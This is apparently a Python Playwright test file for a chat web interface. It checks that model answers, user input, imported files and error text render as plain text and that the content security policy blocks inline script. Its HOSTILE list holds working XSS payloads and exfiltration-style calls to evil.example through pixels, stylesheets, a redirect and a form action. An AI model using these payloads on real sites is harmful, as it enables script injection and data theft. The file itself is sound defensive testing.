"""Whatever a model, a reader or a file says, it stays text: nothing runs, nothing is fetched, nobody is told."""

from __future__ import annotations

import json
from pathlib import Path

from reader import Reader, expect
from scripted_site import Site

CALL = "window.pwned=1"

# Each would set window.pwned, or fetch from evil.example, where a page takes it for markup.
HOSTILE = [
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}><animate onbegin={CALL} attributeName=x></svg>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<body onload={CALL}><details open ontoggle={CALL}>",
    f'<a href="javascript:{CALL}">a</a>',
    f"[link](javascript:{CALL})",
    f"[link](JaVaScRiPt&colon;{CALL})",
    f'[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "{CALL}")',
    f"[link](vbscript:{CALL})",
    f"[ref]\n\n[ref]: javascript:{CALL}",
    f"<javascript:{CALL}>",
    "![pixel](https://evil.example/pixel.png?secret=1)",
    '<img src="https://evil.example/pixel.png">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example/y) }</style>',
    f'<p style="background:url(https://evil.example/z)" onmouseover={CALL}>styled</p>',
    f'```"><script>{CALL}</script>\ncode\n```',
    f'```"onmouseover="{CALL}\ncode\n```',
    f"```html\n<script>{CALL}</script>\n<img src=x onerror={CALL}>\n```",
    f"`<img src=x onerror={CALL}>` and **<img src=x onerror={CALL}>**",
    f"| <img src=x onerror={CALL}> | b |\n|---|---|\n| <svg onload={CALL}> | 2 |",
    f"- [x] <img src=x onerror={CALL}>",
    f"# <img src=x onerror={CALL}>",
    f"> <math><mtext></mtext><mglyph><style><img src=x onerror={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<form action=https://evil.example/ id=composer><input name=attributes><button formaction=javascript:{CALL}>b",
    f"<a id=pageTheme><a id=pageTheme name=set href=javascript:{CALL}>",
    f"<template><img src=x onerror={CALL}></template><xmp><img src=x onerror={CALL}></xmp>",
    f"&lt;img src=x onerror={CALL}&gt; \u202e\u0000 \ufeff <\u0000script>{CALL}</script>",
    f"<think><img src=x onerror={CALL}></think>done",
]
EVERYTHING = "\n\n".join(HOSTILE)


def assert_nothing_ran(reader: Reader) -> None:
    page = reader.page
    assert page.evaluate("window.pwned") is None
    assert page.url.startswith(reader.url)
    inside = page.locator("#messages, #conversations, #toasts")
    assert inside.locator("script, iframe, style, link, meta, base, img, object, embed, form, math").count() == 0
    bad = page.evaluate(
        """() => [...document.querySelectorAll("#messages *, #conversations *, .toast *")].flatMap((node) =>
            [...node.attributes].filter(({ name, value }) => /^on/i.test(name)
                || (/^(href|src|action|formaction)$/i.test(name) && !/^(#|https?:|mailto:)/i.test(value)))
            .map(({ name, value }) => `${node.tagName} ${name}=${value}`))"""
    )
    assert bad == []


def test_no_block_of_an_answer_runs_anything(reader: Reader, site: Site) -> None:
    for first in range(0, len(HOSTILE), 4):
        some = HOSTILE[first : first + 4]
        site.script.answer = lambda prompt, some=some: "\n\n".join([*some, "after"])  # type: ignore[misc]
        reader.ask("Attack.")
        expect(reader.text).to_contain_text("after")
        assert_nothing_ran(reader)
    reader.page.mouse.move(600, 300)
    reader.page.reload()
    expect(reader.text).to_contain_text("after")
    assert_nothing_ran(reader)


def test_the_open_block_runs_nothing_either(reader: Reader, site: Site) -> None:
    for opening in ("", "# ", "- ", "```html\n", '```"><img src=x>\n'):
        site.script.answer = lambda prompt, opening=opening: opening + f"<img src=x onerror={CALL}> " * 30  # type: ignore[misc]
        site.script.step_s = 0.001
        reader.begin().say("Attack.")
        expect(reader.text.locator(".open-block")).to_contain_text("<img src=x onerror=")
        assert_nothing_ran(reader)
        reader.press("Escape")
        expect(reader.button("Send")).to_be_visible()
    assert_nothing_ran(reader)


def test_what_the_reader_writes_is_shown_as_he_wrote_it(reader: Reader) -> None:
    attack = f"<img src=x onerror={CALL}>\n<b>not bold</b>"
    reader.field.fill(attack)
    reader.click("Send").wait()
    expect(reader.questions.locator(".content")).to_have_text(attack)
    expect(reader.titles).to_have_text(attack.split("\n")[0])
    reader.page.reload()
    expect(reader.questions.locator(".content")).to_have_text(attack)
    assert_nothing_ran(reader)


def test_a_hostile_file_stays_text(reader: Reader, tmp_path: Path) -> None:
    evil = f"<img src=x onerror={CALL}>"
    messages = [
        {"id": evil, "parent": None, "role": "user", "content": EVERYTHING, "created": 1, "html": evil},
        {
            "id": "b",
            "parent": evil,
            "role": "assistant",
            "content": EVERYTHING,
            "reasoning": evil,
            "created": 2,
            "blocks": [evil],
            "error": evil,
            "stats": {"model": evil, "tokens": evil, "contextUsed": evil, "finishReason": evil},
        },
    ]
    conversation = {"id": evil, "title": evil, "messages": messages, "leaf": "b", "settings": {"system": evil}}
    path = tmp_path / "evil.json"
    path.write_text(json.dumps({"format": "llm_decoder.conversations", "version": 1, "conversations": [conversation]}))
    reader.page.locator("#import-file").set_input_files(path)
    reader.titles.click()
    expect(reader.text).to_contain_text("code")
    reader.click("Settings")
    expect(reader.page.get_by_label("System prompt")).to_have_value(evil)
    assert_nothing_ran(reader)


def test_a_hostile_error_and_model_name_stay_text(reader: Reader) -> None:
    evil = f"<img src=x onerror={CALL}>"
    error = {"error": {"message": evil, "type": "server_error", "param": None, "code": None}}
    reader.page.route("**/page/stream", lambda route: route.fulfill(status=500, json=error))
    reader.say("Q")
    expect(reader.toast).to_contain_text(evil)
    expect(reader.note).to_contain_text(evil)
    session = {"needs_key": False, "csrf": None, "state": "ready", "model": evil, "max_model_len": 9, "defaults": {}}
    reader.page.route("**/page/session", lambda route: route.fulfill(json=session))
    reader.page.reload()
    expect(reader.page.locator("#model")).to_have_text(evil)
    assert_nothing_ran(reader)


def test_an_address_that_names_no_conversation_opens_an_empty_page(reader: Reader) -> None:
    reader.page.goto(f"{reader.url}#%3Cimg%20src=x%20onerror={CALL}%3E")
    reader.page.reload()
    expect(reader.page.get_by_text("What is on your mind?")).to_be_visible()
    assert_nothing_ran(reader)


def test_only_one_file_of_the_page_takes_html() -> None:
    static = Path(__file__).parents[2] / "web" / "static"
    takers = [
        path.name
        for path in sorted(static.glob("*.js"))
        if any(way in path.read_text() for way in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write"))
    ]
    assert takers == ["blocks.js"]


def test_the_policy_allows_no_inline_script_and_no_other_origin(reader: Reader, site: Site) -> None:
    policy = reader.page.request.get(site.url).headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    ran = reader.page.evaluate(
        """async () => {
            const violations = [];
            document.addEventListener("securitypolicyviolation", (event) => violations.push(event.violatedDirective));
            const holder = document.createElement("div");
            holder.innerHTML = "<img src=x onerror='window.pwned=1'>";
            document.body.append(holder);
            await new Promise((resolve) => setTimeout(resolve, 300));
            holder.remove();
            return [window.pwned, violations];
        }"""
    )
    assert ran[0] is None
    assert "script-src-attr" in ran[1]
    reader.troubles.clear()  # the browser has told of it, as it should
